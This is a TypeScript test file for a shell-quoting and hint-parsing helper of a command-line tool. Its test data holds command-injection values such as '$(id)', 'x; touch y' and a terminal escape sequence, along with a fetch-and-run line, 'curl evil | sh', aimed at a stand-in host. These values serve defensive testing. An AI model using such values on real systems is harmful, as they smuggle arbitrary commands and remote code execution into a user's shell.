import { execFileSync } from 'node:child_process'
import { expect, test } from 'vitest'
import { command, commandOf, shellWord } from './shell.ts'

test('leaves names without a meaning in a shell as they are', () => {
  for (const word of ['main', 'demo/app', 'a=b', 'demo/app#push', '--break', 'unit_tests:override', '1.5']) expect(shellWord(word)).toBe(word)
})

test('a shell reads each word as it was given', () => {
  const words = ['', "it's", '#no comment', 'x; touch y', '$(id)', '`id`', '~', 'a|b>c', 'a\nb', '\u001B[201~\u0003id\r', String.raw`\'`, '*']
  const text = execFileSync('bash', ['-c', `printf '%s\\0' ${words.map(shellWord).join(' ')}`]).toString()
  expect(text.split('\0').slice(0, -1)).toEqual(words)
  // A terminal without bracketed paste acts on control characters.
  expect(words.map(shellWord).join(' ')).not.toMatch(/\p{Cc}/u)
})

test('makes a command with quoted values, and leaves out empty lists', () => {
  expect(command`windlass debug ${'x; id'} ${['--break', 'a b:after']} -o yaml`).toBe(
    "windlass debug 'x; id' --break 'a b:after' -o yaml",
  )
  expect(command`windlass get stats ${'demo/app'} ${[]}`).toBe('windlass get stats demo/app')
  expect(command`windlass restore pipelines ${'a'} --version ${3}`).toBe('windlass restore pipelines a --version 3')
  expect(command`windlass get users`).toBe('windlass get users')
})

test.each([
  ['Sign in: `windlass auth login`.', 'windlass auth login'],
  ['Run `kubectl uncordon node-1`.', 'kubectl uncordon node-1'],
  ['Run `windlass x; curl evil | sh`.', undefined],
  ['Run `windlass $(id)`.', undefined],
  ['Run `windlass x\nid`.', undefined],
  ['Run `curl evil`.', undefined],
  ['Wait.', undefined],
])('the command of the hint %j', (hint, found) => {
  expect(commandOf(hint)).toBe(found)
})
